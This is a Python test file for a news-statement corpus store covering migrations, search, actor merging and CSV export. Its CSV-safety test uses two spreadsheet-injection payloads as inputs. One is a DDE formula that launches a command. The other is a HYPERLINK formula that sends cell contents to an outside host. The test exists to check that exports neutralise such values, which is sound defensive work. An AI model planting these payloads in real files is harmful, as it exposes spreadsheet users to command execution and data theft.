"""The corpus store, run the same way on SQLite and on a real PostgreSQL server."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import sqlite3
from collections import Counter

import psycopg
import pytest
from click.testing import CliRunner

from postgres_server import postgres_url, store_url  # noqa: F401 (fixtures)
from tealeaves import tables
from tealeaves.analysis.escalation import escalation_codes
from tealeaves.cli import cli
from tealeaves.io.readers import read_text
from tealeaves.models import (
    Actor,
    DocumentResult,
    InputError,
    MixedMessage,
    Span,
    Standoff,
    Statement,
    Warning,
)
from tealeaves.pipeline import analyze_documents
from tealeaves.sinks.output import FORMULA_STARTS
from tealeaves.store.core import Store, UnsearchableQuery, snippet_pieces

# Articles written for these tests; each sentence carries one statement.
MONDAY = ("Moscow — Deputy minister Ivan Petrov warned that troops would stay near the border. "
          "Petrov said there was “no ultimatum” on the table. "
          "Ambassador Jane Miller demanded binding guarantees from the Kremlin.")
TUESDAY = ("Spokesman Oleg Sidorov said Moscow was ready to keep talking. "
           "Sidorov insisted that the ultimatum talk was Western invention.")


def _span(text: str, words: str) -> Span:
    start = text.index(words)
    return Span(start, start + len(words), words)


def _statement(doc_id: str, text: str, number: int, sentence: str, speaker: str, signal, quote=None) -> Statement:
    whole = _span(text, sentence)
    quotes = (_span(text, quote),) if quote else ()
    return Statement(id=f"{doc_id[:8]}-s{number:02d}", kind="partial" if quote else "indirect", start=whole.start,
                     end=whole.end, text=whole.text, speaker_id=speaker, quotes=quotes, content=quotes or (whole,),
                     cue=_span(text, sentence.split()[3]), cue_sense="speech", signal=signal,
                     signals=(signal,) if signal else (), topic="troops", confidence=0.75, negated=number == 2,
                     modality=("would",) if number == 1 else ())


def _coded(text: str, published: str, outlet: str, speakers: list[Actor], codes: list) -> DocumentResult:
    """A hand-coded result (signal coding is not in the pipeline yet) touching every table."""
    document = read_text(text, f"{outlet}.txt", title=f"{outlet} on {published}", published=published,
                         outlet=outlet, author="Staff")
    sentences = [s if s.endswith(".") else s + "." for s in text.split(". ")]
    statements = tuple(
        _statement(document.id, text, i, sentence, actor.id, code, "no ultimatum" if "“" in sentence else None)
        for i, (sentence, actor, code) in enumerate(zip(sentences, speakers, codes), start=1))
    side = speakers[0].side
    return DocumentResult(
        document=document, actors=tuple({a.id: a for a in speakers}.values()), statements=statements,
        mixed_messages=(MixedMessage(f"{document.id[:8]}-m1", side, tuple(s.id for s in statements[:2]),
                                     "reassurance_vs_threat", "Troops stay, yet no ultimatum.", 0.5),),
        standoffs=(Standoff(f"{document.id[:8]}-x1", (side, "United States"), (statements[0].id,), "troops",
                            "Cannot both hold."),),
        warnings=(Warning("role_conflict", "check the role", "Petrov", speakers[0].id, 10),),
        coherence={side: 0.25}, speaker_coherence={speakers[0].id: 0.5}, model="hand-coded",
    )


PETROV = Actor("ivan_petrov", "Ivan Petrov", "official", ("Petrov",), "Deputy minister", "Russia")
MILLER = Actor("jane_miller", "Jane Miller", "official", ("Miller",), "Ambassador", "United States")
SIDOROV = Actor("oleg_sidorov", "Oleg Sidorov", "official", ("Sidorov",), "Spokesman", "Russia")
PETROV_ELSEWHERE = Actor("ivan_petrov", "Ivan Petrov", "official", ("the deputy minister",), "Minister", "Belarus")


@pytest.fixture(scope="module")
def coded() -> list[DocumentResult]:
    return [
        _coded(MONDAY, "2022-01-10", "Wire", [PETROV, PETROV, MILLER], ["threaten", "reassure", "demand"]),
        _coded(TUESDAY, "2022-01-11T08:00:00", "Daily", [SIDOROV, SIDOROV], ["engage", None]),
    ]


@pytest.fixture(scope="module")
def parsed(nlp) -> list[DocumentResult]:
    """Real pipeline output: actors, spans and warnings exactly as the pipeline makes them."""
    docs = [read_text(MONDAY.replace("Moscow —", "MINSK —"), "monday.txt", title="Monday", published="2022-01-10"),
            read_text("GENEVA — " + TUESDAY, "tuesday.txt")]
    return list(analyze_documents(docs, nlp=nlp))


@pytest.fixture
def store(store_url, coded):  # noqa: F811
    with Store.open(store_url) as opened:
        for result in coded:
            opened.add(result, pipeline_version="test")
        yield opened


def test_records_round_trip_unchanged(store, coded, parsed):
    for result in parsed:
        store.add(result, pipeline_version="test")
    everything = coded + parsed
    assert list(store.results()) == everything
    assert list(store.results([parsed[1].document.id, coded[0].document.id])) == [parsed[1], coded[0]]


def test_replacing_a_document_keeps_one_copy(store, coded):
    assert store.add(coded[0], pipeline_version="v2") is False  # replaced, not added
    assert list(store.results()) == [coded[1], coded[0]]
    store.delete(coded[0].document.id)
    assert store.add(coded[0], pipeline_version="v2") is True
    assert store.stats()["tables"]["statements"] == sum(len(r.statements) for r in coded)


def test_migrations_apply_once_and_missing_columns_come_back(store_url, coded):  # noqa: F811
    with Store.open(store_url) as first:
        assert first.migrate() == []
        first.db.execute('ALTER TABLE statements DROP COLUMN "modality"')  # a store older than the field
    with Store.open(store_url) as second:
        names = [r["name"] for r in second.db.query('SELECT "name" FROM migrations')]
        assert len(names) == len(set(names)) >= 2
        assert "modality" in second.db.table_columns("statements")
        second.add(coded[0], pipeline_version="test")
        assert list(second.results()) == [coded[0]]


def test_a_new_store_gets_its_whole_schema_in_one_commit_or_none(store_url, monkeypatch):  # noqa: F811
    """A reader never meets a schema half built: a migration that fails undoes the ones before it."""
    import tealeaves.store.core as store_module

    def broken(store):
        raise RuntimeError("disk full")

    monkeypatch.setattr(store_module, "MIGRATIONS", [*store_module.MIGRATIONS, ("broken", broken)])
    with pytest.raises(RuntimeError, match="disk full"):
        Store.open(store_url)
    with Store.open(store_url, readonly=True) as half:
        assert half.db.table_columns("documents") == [] and half.db.table_columns("migrations") == []


def test_a_failed_write_leaves_nothing_of_that_document(store, coded, monkeypatch):
    def fail_after_the_first(bodies):
        type(store.db).index_statements(store.db, bodies[:1])
        raise RuntimeError("disk full")

    store.db.execute('DELETE FROM documents WHERE "id" = ?', (coded[0].document.id,))
    store.db.unindex_document(coded[0].document.id)
    monkeypatch.setattr(store.db, "index_statements", fail_after_the_first)
    with pytest.raises(RuntimeError):
        store.add(coded[0], pipeline_version="test")
    assert list(store.results()) == [coded[1]]
    for table in ("actors", "statements", "mixed_messages", "warnings"):
        rows = store.db.query(f'SELECT count(*) AS n FROM {table} WHERE "document_id" = ?', (coded[0].document.id,))
        assert rows[0]["n"] == 0, table
    assert store.search("ultimatum") and all(r.document_id == coded[1].document.id for r in store.search("ultimatum"))


def test_full_text_search_finds_what_the_records_say(store, coded):
    statements = [s for r in coded for s in r.statements]
    hits = store.search("ultimatum")
    assert {h.id for h in hits} == {s.id for s in statements if "ultimatum" in s.text.lower()}
    assert all(any(hit and piece.lower() == "ultimatum" for piece, hit in snippet_pieces(h.snippet))
               for h in hits)
    assert {h.id for h in store.search("guarantees Kremlin")} == {coded[0].statements[2].id}
    assert store.search("nothing-like-this-word") == []


@pytest.mark.parametrize("filters, keep", [
    ({"side": "russia"}, lambda s, a, r: a.side == "Russia"),
    ({"speaker": "Sidorov"}, lambda s, a, r: a.name == "Oleg Sidorov"),
    ({"signal": "threaten"}, lambda s, a, r: s.signal == "threaten"),
    ({"since": "2022-01-11"}, lambda s, a, r: r.document.published >= "2022-01-11"),
    ({"until": "2022-01-10", "outlet": "wire"}, lambda s, a, r: r.document.outlet == "Wire"),
])
def test_search_filters(store, coded, filters, keep):
    expected = {s.id for r in coded for s in r.statements if keep(s, r.actor(s.speaker_id), r)}
    assert expected and {h.id for h in store.search("", **filters)} == expected
    facets = store.facets(None, **filters)
    assert sum(n for _, n in facets["side"]) == len(expected)


def test_facets_count_statements(store, coded):
    facets = store.facets("ultimatum")
    statements = [(s, r) for r in coded for s in r.statements if "ultimatum" in s.text.lower()]
    assert dict(facets["speaker"]) == Counter(r.actor(s.speaker_id).name for s, r in statements)
    assert dict(facets["outlet"]) == Counter(r.document.outlet for s, r in statements)


def test_timeline_counts_match_the_statements(store, coded):
    codes = escalation_codes()
    rows = {(row.side, row.day.isoformat()): row for row in store.timeline()}
    expected: dict = {}
    for result in coded:
        for s in result.statements:
            key = (result.actor(s.speaker_id).side, result.document.published[:10])
            expected.setdefault(key, Counter())[s.signal or "uncoded"] += 1
    assert set(rows) == set(expected)
    for key, counts in expected.items():
        total = sum(counts.values())
        index = (sum(n for c, n in counts.items() if c in codes["up"])
                 - sum(n for c, n in counts.items() if c in codes["down"])) / total
        assert rows[key].signals == dict(counts) and rows[key].statements == total
        assert rows[key].escalation == pytest.approx(index, abs=1e-4) and -1 <= index <= 1
    assert [r.side for r in store.timeline("United States")] == ["United States"]
    assert store.timeline(since="2022-01-11") == [rows[("Russia", "2022-01-11")]]


def test_actors_merge_across_documents(store_url, coded):  # noqa: F811
    other = _coded(TUESDAY, "2022-01-12", "Gazette", [PETROV_ELSEWHERE, SIDOROV], ["assess", "engage"])
    with Store.open(store_url) as opened:
        for result in (*coded, other):
            opened.add(result, pipeline_version="test")
        petrov = next(a for a in opened.actors() if a.id == "ivan_petrov")
        assert petrov.documents == 2 and petrov.statements == 3
        assert {"Petrov", "the deputy minister"} <= set(petrov.aliases)
        assert set(petrov.sides) == {"Russia", "Belarus"} and petrov.side == "Russia"
        assert any("sides" in w for w in petrov.warnings)
        assert {a.id for a in opened.actors(side="United States")} == {"jane_miller"}


def test_documents_clusters_errors_and_stats(store, coded):
    copy = DocumentResult(document=read_text(MONDAY + " ", "copy.txt", title="copy", published="2022-01-10"))
    store.add(copy, pipeline_version="test", cluster_id=coded[0].document.id, extra={"status": "duplicate"})
    store.add_errors([InputError("bad.jsonl", "line 3: not valid JSON", 3)] * 2)
    listed = store.documents(outlet="Wire")
    assert [d["id"] for d in listed] == [coded[0].document.id] and listed[0]["statements"] == 3
    assert [d["id"] for d in store.documents(since="2022-01-11")] == [coded[1].document.id]
    [cluster] = store.clusters()
    assert [m.id for m in cluster.members] == [coded[0].document.id, copy.document.id]
    assert store.errors() == [{"source": "bad.jsonl", "error": "line 3: not valid JSON", "line": 3}]
    stats = store.stats()
    assert stats["tables"]["documents"] == 3 and stats["status"] == {"analysed": 2, "duplicate": 1}
    assert stats["bytes"] > 0
    assert [m.side for m in store.mixed_page(side="Russia", scope="within")] == ["Russia", "Russia"]
    with pytest.raises(ValueError, match="unknown corpus columns"):
        store.add(copy, pipeline_version="test", extra={"colour": "red"})


def test_readonly_store_refuses_writes(store_url, coded):  # noqa: F811
    with Store.open(store_url) as writer:
        writer.add(coded[0], pipeline_version="test")
    with Store.open(store_url, readonly=True) as reader:
        assert list(reader.results()) == [coded[0]]
        with pytest.raises((sqlite3.Error, psycopg.Error), match="(?i)read.?only"):
            reader.add(coded[1], pipeline_version="test")


def test_snippets_mark_hits_apart_from_the_article_s_own_brackets(store):
    text = "Spokesman Oleg Sidorov said the [draft] ultimatum talk was invention."
    result = _coded(text, "2022-01-12", "Gazette", [SIDOROV], ["deny"])
    store.add(result, pipeline_version="test")
    [hit] = store.search("ultimatum", outlet="Gazette")
    pieces = snippet_pieces(hit.snippet)
    assert [piece for piece, marked in pieces if marked] == ["ultimatum"]
    assert "[draft]" in "".join(piece for piece, _ in pieces)
    assert snippet_pieces("no hit [here]") == [("no hit [here]", False)]


def test_cross_document_mixed_messages_are_replaced_and_read_back(store):
    rows = [{"id": f"cx-{n}", "side": side, "kind": kind, "explanation": f"Pair {n}.", "score": score,
             "statement_ids": [f"a-s0{n}", f"b-s0{n}"], "document_ids": ["a", "b"], "days": ["2022-01-10", "2022-01-11"]}
            for n, (side, kind, score) in enumerate([("Russia", "reassurance_vs_threat", 0.6),
                                                     ("United States", "assessment_conflict", 0.9)])]
    def ids(found):
        return [(m.scope, m.id, tuple(m.statement_ids)) for m in found]

    stored = [("across", r["id"], tuple(r["statement_ids"])) for r in rows]
    store.replace_cross_mixed_messages(rows)
    assert ids(store.cross_mixed_messages()) == stored[::-1]  # strongest first
    assert ids(store.cross_mixed_messages(side="russia")) == stored[:1]
    assert ids(store.cross_mixed_messages(kind="assessment_conflict")) == stored[1:]
    store.replace_cross_mixed_messages(rows[1:])
    assert ids(store.cross_mixed_messages()) == stored[1:]


def test_an_actor_named_by_surname_alone_joins_the_full_name(store_url, coded):  # noqa: F811
    surname_only = Actor("petrov", "Petrov", "official", (), "Deputy minister", "Russia")
    other_petrov = Actor("anna_petrov", "Anna Petrov", "official", (), "Mayor", "Russia")
    with Store.open(store_url) as opened:
        opened.add(coded[0], pipeline_version="test")
        opened.add(_coded(TUESDAY, "2022-01-12", "Gazette", [surname_only, SIDOROV], ["assess", "engage"]),
                   pipeline_version="test")
        merged = {a.id: a for a in opened.actors()}
        assert "petrov" not in merged
        assert merged["ivan_petrov"].documents == 2 and merged["ivan_petrov"].statements == 3
        assert merged["ivan_petrov"].name == "Ivan Petrov" and "Petrov" in merged["ivan_petrov"].aliases
        first_named_by_role = Actor("the_minister", "Ivan Petrov", "official", ("the minister",), None, "Russia")
        briefing = "The minister said the talks would go on. Sidorov said the date was not set."
        opened.add(_coded(briefing, "2022-01-14", "Courier", [first_named_by_role, SIDOROV], ["engage", None]),
                   pipeline_version="test")
        merged = {a.id: a for a in opened.actors()}
        assert "the_minister" not in merged and merged["ivan_petrov"].documents == 3
        assert "the minister" in merged["ivan_petrov"].aliases
        mayor = "Mayor Anna Petrov said the square would reopen. Petrov said the fountain was repaired."
        opened.add(_coded(mayor, "2022-01-13", "Post", [other_petrov, other_petrov], [None, None]),
                   pipeline_version="test")
        by_role = {a.id: a for a in opened.actors()}  # the deputy minister Petrov is no mayor
        assert "petrov" not in by_role and by_role["ivan_petrov"].documents == 3
        assert "its role (minister) is Ivan Petrov's" in by_role["ivan_petrov"].merges[-1].evidence
        unknown = Actor("petrov", "Petrov", "person", (), None, "Russia")
        opened.add(_coded(TUESDAY, "2022-01-12", "Gazette", [unknown, SIDOROV], ["assess", "engage"]),
                   pipeline_version="test")
        ambiguous = {a.id: a for a in opened.actors()}
        assert "petrov" in ambiguous and ambiguous["ivan_petrov"].documents == 2
        assert any("Anna Petrov" in w and "Ivan Petrov" in w for w in ambiguous["petrov"].warnings)


def test_escalation_codes_are_signal_codes():
    from tealeaves.sinks.charts import PALETTE

    codes = escalation_codes()
    assert codes["up"] and codes["down"] and not codes["up"] & codes["down"]
    assert codes["up"] | codes["down"] <= set(PALETTE)


def test_cross_document_mixed_messages_are_found_on_either_backend(store, coded):
    from tealeaves.analysis.corpus import find_cross_document_mixed

    calm = "Spokesman Oleg Sidorov said the troops posed no threat to anyone."
    later = _coded(calm, "2022-01-12", "Gazette", [SIDOROV], ["reassure"])
    store.add(later, pipeline_version="test")
    [found] = find_cross_document_mixed(store)
    threat = coded[0].statements[0]
    assert (found["side"], found["kind"]) == ("Russia", "reassurance_vs_threat")
    assert found["statement_ids"] == [later.statements[0].id, threat.id]
    assert found["document_ids"] == [later.document.id, coded[0].document.id]
    assert found["days"] == ["2022-01-12", "2022-01-10"]
    # two days apart: outside a one-day window (there the threat meets Tuesday's offer to talk instead)
    narrow = find_cross_document_mixed(store, window_days=1)
    assert all(later.statements[0].id not in row["statement_ids"] for row in narrow)
    assert [row["kind"] for row in narrow] == ["offer_to_engage_vs_threat"]


def test_a_store_older_than_cross_document_mixed_messages_reads_none(store_url, coded):  # noqa: F811
    with Store.open(store_url) as writer:
        writer.add(coded[0], pipeline_version="test")
        writer.db.execute("DROP TABLE cross_mixed_messages")
        writer.db.execute("DELETE FROM migrations WHERE \"name\" = 'cross_document_mixed_messages'")
    with Store.open(store_url, readonly=True) as reader:
        assert reader.cross_mixed_messages() == []
    with Store.open(store_url) as migrated:
        migrated.replace_cross_mixed_messages([])
        assert migrated.cross_mixed_messages() == []
        assert "cross_document_mixed_messages" in {r["name"] for r in migrated.db.query('SELECT "name" FROM migrations')}


def test_a_store_older_than_actor_merges_reads_its_actors_read_only(store_url, coded):  # noqa: F811
    """A store made before corpus actors kept their ``merges``, opened read-only (not
    migrated), lists its actors with the folds worked out from the aggregates."""
    surname_only = Actor("petrov", "Petrov", "official", (), "Deputy minister", "Russia")
    with Store.open(store_url) as writer:
        writer.add(coded[0], pipeline_version="test")
        writer.add(_coded(TUESDAY, "2022-01-12", "Gazette", [surname_only, SIDOROV], ["assess", "engage"]),
                   pipeline_version="test")
        writer.refresh_corpus_actors()  # as an ingest ends
        writer.db.execute('ALTER TABLE corpus_actors DROP COLUMN "merges"')
        writer.db.execute("DELETE FROM migrations WHERE \"name\" = 'corpus_actor_merges'")
    with Store.open(store_url, readonly=True) as reader:
        petrov = reader.actor("ivan_petrov")
        assert petrov is not None and [m.id for m in petrov.merges] == ["petrov"]
        assert [a.id for a in reader.actors()] == [a.id for a in reader.actors(limit=10)]
    with Store.open(store_url) as migrated:
        assert "merges" in migrated.db.table_columns("corpus_actors") and migrated.corpus_actors_fresh()
        assert [m.id for m in migrated.actor("ivan_petrov").merges] == ["petrov"]


# --- search terms: one tokenizer for both backends (issue 23, item 3) -----------------------

# Sentences written for these tests, each one statement: apostrophes straight and curly, words
# that stem alike on one stemmer only (general, generous), stop words, hyphens, accents.
WORDING = ("Minister Ivan Petrov said Moscow won’t withdraw the troops. "
           "Petrov also said the army won't stay forever. "
           "Ambassador Jane Miller said her team won the first round. "
           "Miller said the general mood was generous and calm. "
           "Miller added that U.S.-Russia de-escalation talks would résumé soon. "
           "Sidorov said the red line was not for sale.")
NO_WORD_QUERIES = ['"', "*", "(((", "^", ":", "\\", "%", "\x00", "😀", "\u202e", "-", "'", "_", "“”", '" * "']
WORD_QUERIES = ["won't", "won’t", "won", "WON'T withdraw", "general", "generous", "the", "U.S.", "us",
                "de-escalation", "resume", "résumé", "red line", "“red line”", "not", "said*", "NEAR(troops",
                "ultimatum\x00", "wont", "t"]


@pytest.fixture(scope="module")
def wording() -> DocumentResult:
    speakers = [PETROV, PETROV, MILLER, MILLER, MILLER, SIDOROV]
    return _coded(WORDING, "2022-01-12", "Gazette", speakers, ["reassure", None, None, None, "engage", "deny"])


def test_a_query_without_a_letter_or_digit_is_refused_plainly(store_url, wording):  # noqa: F811
    with Store.open(store_url) as store:
        store.add(wording, pipeline_version="test")
        for query in NO_WORD_QUERIES:
            with pytest.raises(UnsearchableQuery, match="nothing to search for"):
                store.search(query)
            with pytest.raises(UnsearchableQuery):
                store.facets(query)
        assert len(store.search("   ")) == len(wording.statements)  # no query at all lists every statement


def test_both_backends_find_the_same_statements(postgres_url, tmp_path, wording):  # noqa: F811
    found = {}
    for name, url in (("sqlite", str(tmp_path / "corpus.db")), ("postgresql", _new_database(postgres_url))):
        with Store.open(url) as store:
            store.add(wording, pipeline_version="test")
            found[name] = {query: [hit.id for hit in store.search(query)] for query in WORD_QUERIES}
            marked = {query: {piece.lower() for hit in store.search(query)
                              for piece, is_hit in snippet_pieces(hit.snippet) if is_hit} for query in ("troops",)}
            assert marked == {"troops": {"troops"}}, name
    assert found["sqlite"] == found["postgresql"]
    ids = [s.id for s in wording.statements]
    assert found["sqlite"]["won't"] == found["sqlite"]["won’t"] == ids[:2]  # not "won the first round"
    assert found["sqlite"]["won"] == ids[:3]
    assert found["sqlite"]["the"] == [ids[i] for i in (0, 1, 2, 3, 5)]  # a stop word is a word like any other
    assert found["sqlite"]["résumé"] == found["sqlite"]["resume"] == [ids[4]]
    assert found["sqlite"]["red line"] == found["sqlite"]["“red line”"] == [ids[5]]


def _new_database(admin_url: str) -> str:
    """A new database on the test server (dropped with the server at the end of the session)."""
    import uuid
    from urllib.parse import urlsplit

    import psycopg

    name = "tealeaves_test_" + uuid.uuid4().hex[:12]
    with psycopg.connect(admin_url, autocommit=True) as connection:
        connection.execute(f'CREATE DATABASE "{name}"')
    return urlsplit(admin_url)._replace(path="/" + name).geturl()


@pytest.mark.parametrize("query", ["(((", '"', "\x00", "😀", "\u202e"])
def test_the_cli_says_a_query_has_no_word_to_search_for(store_url, wording, query):  # noqa: F811
    with Store.open(store_url) as store:
        store.add(wording, pipeline_version="test")
    result = CliRunner().invoke(cli, ["search", query, "--db", store_url])
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("error: nothing to search for in ") and "letters or digits" in result.stderr
    assert "fts5" not in result.stderr and "Traceback" not in result.stderr
    found = CliRunner().invoke(cli, ["search", f"{query} troops", "--db", store_url, "--format", "json"])
    assert [row["id"] for row in json.loads(found.stdout)] == [wording.statements[0].id]


def test_a_postgresql_store_indexed_with_english_words_is_indexed_again(store_url, wording):  # noqa: F811
    """Stores made before both backends shared one tokenizer get its terms when next opened to write."""
    with Store.open(store_url) as store:
        store.add(wording, pipeline_version="test")
        if store.db.name == "postgresql":
            store.db.execute("UPDATE statements_fts SET tsv = to_tsvector('english', body)")
        store.db.execute("DELETE FROM migrations WHERE name = 'search_terms_of_sqlite'")
    with Store.open(store_url) as store:
        assert len(store.search("the")) == 5  # PostgreSQL's English configuration drops "the"


# --- CSV a spreadsheet can open safely (issue 23, item 7) -----------------------------------

FORMULA_OUTLET = "=cmd|' /C calc'!A0"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_output_writes_formulas_as_text(store_url, tmp_path):  # noqa: F811
    from fastapi.testclient import TestClient

    from tealeaves.sinks.export import read_export
    from tealeaves.web.app import create_app

    hostile = _coded(TUESDAY, "2022-01-11", FORMULA_OUTLET, [SIDOROV, SIDOROV], ["engage", None])
    hostile = dataclasses.replace(hostile, document=dataclasses.replace(
        hostile.document, title='=HYPERLINK("http://example.org/?"&A1, "open")'))
    with Store.open(store_url) as store:
        store.add(hostile, pipeline_version="test")
    outputs = {"search -f csv": CliRunner().invoke(cli, ["search", "", "--db", store_url, "-f", "csv"]).stdout}
    client = TestClient(create_app(store_url), base_url="http://127.0.0.1")
    for page in ("/documents", "/search"):
        outputs[page] = client.get(page, params={"format": "csv"}).text
    assert CliRunner().invoke(cli, ["export", "--db", store_url, "--format", "csv",
                                    "--out", str(tmp_path / "csv")]).exit_code == 0
    outputs |= {path.name: path.read_text("utf-8") for path in (tmp_path / "csv").glob("*.csv")}
    for name in ("search -f csv", "/documents", "/search", "documents.csv"):
        assert "'" + FORMULA_OUTLET in _cells(outputs[name]), name
    for name, text in outputs.items():
        assert [cell for cell in _cells(text) if cell[:1] in FORMULA_STARTS] == [], name
    exported = read_export(tmp_path / "csv", "csv")  # a round trip gives back the very titles
    with Store.open(store_url, readonly=True) as store:
        assert tables.results_from_rows(exported, {}) == list(store.results()) == [hostile]


def _merged_after_one_document_each(store: Store, people: list[Actor]) -> dict:
    """Store one document per person (two statements of theirs each), then the corpus actors by id."""
    for n, actor in enumerate(people):
        store.add(_coded(TUESDAY + " " * n, "2022-01-12", f"Outlet{n}", [actor, actor], ["assess", "engage"]),
                  pipeline_version="test")
    return {a.id: a for a in store.actors()}


def test_people_fold_across_documents_only_by_names_that_cannot_be_two_people(store_url):  # noqa: F811
    """A middle initial, a title or an accent does not part one person; a first name or a
    suffix that differs does; a shorter name that fits two people joins neither. Each fold says
    which evidence joined the names."""
    people = [Actor("ivan_petrov", "Ivan Petrov", "official", (), "Deputy minister", "Russia"),
              Actor("ivan_s_petrov", "Ivan S. Petrov", "official", (), "Deputy minister", "Russia"),
              Actor("ivan_pétrov", "Ivan Pétrov", "official", (), None, "Russia"),
              Actor("anna_petrov", "Anna Petrov", "official", (), "Mayor", "Russia"),
              Actor("ivan_petrov_jr", "Ivan Petrov Jr.", "person", (), None, "Russia"),
              Actor("oleg_n_sidorov", "Oleg N. Sidorov", "official", (), "Spokesman", "Russia"),
              Actor("oleg_v_sidorov", "Oleg V. Sidorov", "official", (), "Spokesman", "Russia"),
              Actor("oleg_sidorov", "Oleg Sidorov", "official", (), "Spokesman", "Russia")]
    with Store.open(store_url) as opened:
        merged = _merged_after_one_document_each(opened, people)
        assert set(merged) == {"ivan_petrov", "anna_petrov", "ivan_petrov_jr", "oleg_n_sidorov", "oleg_v_sidorov",
                               "oleg_sidorov"}
        petrov = merged["ivan_petrov"]
        assert petrov.members == ("ivan_petrov", "ivan_pétrov", "ivan_s_petrov") and petrov.statements == 6
        evidence = {m.name: m.evidence for m in petrov.merges}
        assert set(evidence) == {"Ivan S. Petrov", "Ivan Pétrov"}
        assert "middle" in evidence["Ivan S. Petrov"] and "accents" in evidence["Ivan Pétrov"]
        assert merged["anna_petrov"].merges == () and merged["ivan_petrov_jr"].merges == ()
        assert any("Oleg N. Sidorov" in w and "Oleg V. Sidorov" in w for w in merged["oleg_sidorov"].warnings)
    shown = CliRunner().invoke(cli, ["actors", "--explain", "Ivan S. Petrov", "--db", store_url])
    assert shown.exit_code == 0 and shown.output.startswith("Ivan Petrov (Russia, 6 statements)")
    assert "+ Ivan S. Petrov [ivan_s_petrov]: " in shown.output and "middle" in shown.output
    as_json = CliRunner().invoke(cli, ["actors", "--explain", "Ivan Pétrov", "--db", store_url, "--format", "json"])
    [record] = json.loads(as_json.output)  # the CorpusActor record, folds with their evidence
    assert {m["id"]: "accents" in m["evidence"] for m in record["merges"]} == {"ivan_s_petrov": False,
                                                                             "ivan_pétrov": True}
    missing = CliRunner().invoke(cli, ["actors", "--explain", "Nobody Known", "--db", store_url])
    assert missing.exit_code != 0 and "no actor of this store is called 'Nobody Known'" in missing.output


def test_a_lone_surname_called_mrs_joins_the_one_woman_of_that_surname(store_url):  # noqa: F811
    """"Petrov" called "Mrs. Petrov" may be Anna Petrov, never Ivan Petrov; a short first name
    listed in data/speakers.yaml joins its formal name, and the fold says so."""
    people = [Actor("ivan_petrov", "Ivan Petrov", "official", (), "Deputy minister", "Russia"),
              Actor("anna_petrov", "Anna Petrov", "official", (), "Mayor", "Russia"),
              Actor("petrov", "Petrov", "person", ("Mrs. Petrov",), None, "Russia"),
              Actor("alex_sidorov", "Alex Sidorov", "official", (), "Spokesman", "Russia"),
              Actor("alexander_sidorov", "Alexander Sidorov", "official", (), "Spokesman", "Russia")]
    with Store.open(store_url) as opened:
        merged = _merged_after_one_document_each(opened, people)
    [sidorov] = [a for a in merged.values() if "Sidorov" in a.name]
    assert set(merged) == {"ivan_petrov", "anna_petrov", sidorov.id} and sidorov.statements == 4
    assert [m.id for m in merged["anna_petrov"].merges] == ["petrov"] and "Mrs." in merged["anna_petrov"].merges[0].evidence
    assert "short form" in sidorov.merges[0].evidence


def test_a_full_name_framed_by_a_title_or_a_headline_joins_the_person(store_url):  # noqa: F811
    """"Tycoon Ivan Petrov" (a title the model kept, any kind) and "Ivan Petrov Rejects Claims"
    (a headline's verb) are Ivan Petrov, who goes by "Petrov" elsewhere, and bring only aliases
    that name him; a description, a list,
    a first name before the name, or a frame naming someone else keep theirs."""
    people = [Actor("ivan_petrov", "Ivan Petrov", "official", ("Petrov",), "Deputy minister", "Russia"),
              Actor("anna_lind", "Anna Lind", "official", ("Lind",), "Mayor", "Russia"),
              Actor("tycoon_ivan_petrov", "Tycoon Ivan Petrov", "organization", (), None, "Russia"),
              Actor("ivan_petrov_rejects", "Ivan Petrov Rejects Claims", "person", ("The Claims Of Fraud",), None,
                    "Russia"),
              Actor("aides_of_petrov", "aides of Ivan Petrov", "group", (), None, "Russia"),
              Actor("lind_and_petrov", "Mayor and Ivan Petrov", "group", (), None, "Russia"),
              Actor("anna_lind_slams", "Anna Lind Slams Ivan Petrov", "person", (), None, "Russia")]
    with Store.open(store_url) as opened:
        merged = _merged_after_one_document_each(opened, people)
    folded = {m.id: m.evidence for m in merged["ivan_petrov"].merges}
    assert set(folded) == {"tycoon_ivan_petrov", "ivan_petrov_rejects"}
    assert "after a title" in folded["tycoon_ivan_petrov"] and "in a headline" in folded["ivan_petrov_rejects"]
    assert {"aides_of_petrov", "lind_and_petrov", "anna_lind_slams", "anna_lind"} <= set(merged)
    assert "The Claims Of Fraud" not in merged["ivan_petrov"].aliases  # the headline's, not his


def test_a_lone_surname_of_several_joins_the_one_named_in_ten_times_as_many_documents(store_url):  # noqa: F811
    ivan = Actor("ivan_petrov", "Ivan Petrov", "official", ("Petrov",), "Deputy minister", "Russia")
    anna = Actor("anna_petrov", "Anna Petrov", "official", (), "Mayor", "Russia")
    lone = Actor("petrov", "Petrov", "person", (), None, "Russia")
    with Store.open(store_url) as opened:
        nine = _merged_after_one_document_each(opened, [ivan] * 9 + [anna, lone])
        assert "petrov" in nine  # nine documents to one: not enough
        ten = _merged_after_one_document_each(opened, [ivan] * 10 + [anna, lone])
    assert "petrov" not in ten and "named in 10 documents" in ten["ivan_petrov"].merges[-1].evidence
